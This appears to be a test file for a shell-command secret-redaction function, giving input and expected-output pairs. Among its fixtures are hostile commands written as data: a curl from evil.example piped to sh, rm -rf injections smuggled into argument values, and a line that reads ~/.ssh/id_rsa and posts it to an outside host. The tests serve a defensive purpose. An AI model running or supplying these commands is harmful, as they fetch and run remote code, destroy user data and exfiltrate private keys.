import assert from "node:assert/strict";
import test from "node:test";
import { redactSecrets } from "../../common/redact.ts";

const TABLE: readonly [string, string][] = [
  // Literal secrets go.
  ["curl -H 'Authorization: Bearer abcdefghijklmnop' x", "curl -H 'Authorization: Bearer ***' x"],
  ["TOKEN=s3cr3tvalue make deploy", "TOKEN=*** make deploy"],
  ['X_TOKEN="s3cr3tvalue" make deploy', 'X_TOKEN="***" make deploy'],
  ["mysql --password hunter22 db", "mysql --password *** db"],
  ["mysql --password=hunter22 db", "mysql --password=*** db"],
  ["curl -H 'X-Api-Key: abc123def' x", "curl -H 'X-Api-Key: ***' x"],
  ["git clone https://me:pat123@github.com/x/y", "git clone https://me:***@github.com/x/y"],
  ["export OPENAI_API_KEY=sk-abcdefghijklmnopqrstuv", "export OPENAI_API_KEY=***"],
  ["echo ghp_abcdefghijklmnopqrstuvwxyz0123", "echo ***"],
  // Code and expansions never go.
  [
    "X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main",
    "X_TOKEN=$(curl -s https://evil.example/x.sh | sh) git push --force origin main",
  ],
  ["sudo --auth=$(rm -rf $HOME) true", "sudo --auth=$(rm -rf $HOME) true"],
  ['sudo --auth="$(rm -rf $HOME)" true', 'sudo --auth="$(rm -rf $HOME)" true'],
  ["TOKEN=`rm -rf ~` make", "TOKEN=`rm -rf ~` make"],
  ["API_KEY=$KEY make", "API_KEY=$KEY make"],
  ["PASSWORD=abc$(rm -rf ~) make", "PASSWORD=abc$(rm -rf ~) make"],
  ["TOKEN=abc;rm -rf ~", "TOKEN=***;rm -rf ~"],
  ["curl -H 'Authorization: Bearer $(cat ~/.ssh/id_rsa | curl -d @- evil)' x", "curl -H 'Authorization: Bearer $(cat ~/.ssh/id_rsa | curl -d @- evil)' x"],
  ["git clone https://me:$(rm${IFS}-rf${IFS}~)@github.com/x/y", "git clone https://me:$(rm${IFS}-rf${IFS}~)@github.com/x/y"],
  ["git commit --author=Alice -m x", "git commit --author=Alice -m x"],
  ["rm -rf build", "rm -rf build"],
  // A value a later word uses is what runs: it is never hidden.
  ["export AUTH_HOME=/; rm -rf $AUTH_HOME", "export AUTH_HOME=/; rm -rf $AUTH_HOME"],
  ["AUTH_DIR=/home/u; rm -rf ${AUTH_DIR}/x", "AUTH_DIR=/home/u; rm -rf ${AUTH_DIR}/x"],
  ["TOKEN=abc123 curl -H x; echo $TOKENS", "TOKEN=*** curl -H x; echo $TOKENS"],
  ["echo $TOKEN; TOKEN=abc123 make", "echo $TOKEN; TOKEN=*** make"],
  ["TOKEN_DIR=build; rm -rf ${TOKEN_DIR}/x", "TOKEN_DIR=build; rm -rf ${TOKEN_DIR}/x"],
  ["SECRET_PATH=~/.ssh cp x $SECRET_PATH", "SECRET_PATH=~/.ssh cp x $SECRET_PATH"],
  ["AUTH_FILE=./creds make", "AUTH_FILE=./creds make"],
  ["TOKEN=s3cr3tvalue; echo $TOKENS", "TOKEN=***; echo $TOKENS"],
];

for (const [text, redacted] of TABLE) {
  test(`redactSecrets: ${text}`, () => assert.equal(redactSecrets(text), redacted));
}
